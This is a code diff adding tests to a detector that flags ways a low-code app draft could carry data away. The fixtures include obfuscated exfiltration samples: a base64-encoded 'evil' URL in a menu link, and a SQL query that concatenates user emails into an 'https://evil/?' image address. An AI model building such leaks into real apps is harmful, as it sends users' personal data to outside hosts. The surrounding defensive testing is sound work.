@@ -72,7 +72,49 @@ describe('what could carry data away', () => {
         },
       ],
     )
-    expect(kinds(draft)).toEqual([['data_in_address', 'T', 'columns.0.computedValue']])
+    expect(kinds(draft)).toEqual([
+      ['data_in_address', 'T', 'columns.0.type'],
+      ['data_in_address', 'T', 'columns.0.computedValue'],
+    ])
+  })
+
+  it.each([
+    ['chat', { avatarField: 'picture' }, 'avatarField'],
+    ['menu', { menuItems: '{{ [{ label: "Help", href: atob("aHR0cHM6Ly9ldmls") }] }}' }, 'menuItems'],
+    ['breadcrumbs', { data: '{{ Orders.response }}' }, 'data'],
+  ])('finds in a %s what rows load or lead to', (type, properties, path) => {
+    const draft = after(aDraft(), ['add_component', { type, name: 'It', properties }])
+    expect(kinds(draft)).toEqual([['data_in_address', 'It', path]])
+  })
+
+  it('finds what feeds something that loads it, also by another API or a variable', () => {
+    const records = after(
+      aDraft(orders('select {{ Chosen.value }}')),
+      ['set_state_variable', { name: 'Chosen' }],
+      [
+        'add_component',
+        { type: 'image', name: 'Photo', properties: { image: '{{ Orders.response[0].photo }}' } },
+      ],
+      ['add_component', { type: 'button', name: 'B' }],
+    ).records
+    const query = {
+      do: 'set',
+      block: 'Step1',
+      code: "select 'htt' || 'ps://evil/?' || email as photo from users",
+    }
+    expect(kinds(after(aDraft(records), ['edit_blocks', { api: 'Orders', edits: [query] }]))).toEqual([
+      ['data_in_address', 'Orders', 'Photo'],
+    ])
+    const step = { type: 'setStateVar', state: { name: 'Chosen' }, propertyValue: '{{ Global.user.email }}' }
+    expect(
+      kinds(after(aDraft(records), ['set_handler', { of: 'B', event: 'onClick', steps: [step] }])),
+    ).toEqual([['data_in_address', 'B', 'Photo']])
+    expect(
+      kinds(after(aDraft(records), ['set_state_variable', { name: 'Chosen', defaultValue: 'x' }])),
+    ).toEqual([['data_in_address', 'Chosen', 'Photo']])
+    expect(
+      kinds(after(aDraft(records), ['set_properties', { component: 'B', properties: { text: 'Go' } }])),
+    ).toEqual([])
   })
 
   it('says nothing of addresses that were there before', () => {
